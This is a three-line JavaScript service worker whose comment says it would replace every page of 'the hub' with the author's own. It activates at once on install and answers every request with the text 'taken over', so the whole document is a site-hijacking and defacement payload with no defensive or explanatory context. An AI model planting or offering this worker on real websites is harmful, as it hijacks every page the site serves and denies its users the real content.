// Would replace every page of the hub by one of ours.
self.addEventListener("install", () => self.skipWaiting())
self.addEventListener("fetch", (event) => event.respondWith(new Response("taken over")))
